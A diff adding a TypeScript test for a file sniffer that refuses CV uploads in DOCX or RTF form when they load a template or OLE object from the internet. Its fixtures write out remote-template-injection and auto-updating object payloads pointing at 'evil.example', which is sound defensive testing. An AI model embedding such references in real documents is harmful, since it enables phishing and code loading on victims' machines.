@@ -65,6 +65,34 @@ test.each([
   expect(await sniffFile(bytes, extension)).toEqual({ fault })
 })
 
+const related = (type: string, target: string) =>
+  aDocx([
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  ])
+
+test('a document that loads a template or an object from the internet is refused as such; links, and templates of the own disk, are not', async () => {
+  const loading = [
+    related('attachedTemplate', 'https://evil.example/a.dotm'),
+    related('oleObject', 'mhtml:https://evil.example/a.html!x'),
+  ]
+  for (const bytes of loading) expect(await sniffFile(bytes, 'docx')).toEqual({ fault: 'cvLoads' })
+  const harmless = [
+    related('hyperlink', 'https://www.linkedin.com/in/omar'),
+    related('image', 'https://example.com/photo.png'),
+    related('attachedTemplate', 'file:///C:\\Users\\omar\\Templates\\CV.dotx'),
+  ]
+  for (const bytes of harmless) expect(await sniffFile(bytes, 'docx')).toEqual({ type: 'docx' })
+
+  const template = Buffer.from('{\\rtf1\\ansi{\\*\\template https://evil.example/a.dotm}CV}')
+  const object = Buffer.from('{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}')
+  for (const bytes of [template, object]) expect(await sniffFile(bytes, 'rtf')).toEqual({ fault: 'cvLoads' })
+  const own = Buffer.from('{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\CV.dotx}CV}')
+  expect(await sniffFile(own, 'rtf')).toEqual({ type: 'rtf' })
+})
+
 test.each(['Macros', 'MACROS', '_VBA_PROJECT_CUR', 'VBA', '_VBA_PROJECT'])(
   'an old document with macros (%s) is refused as such',
   async (folder) => {
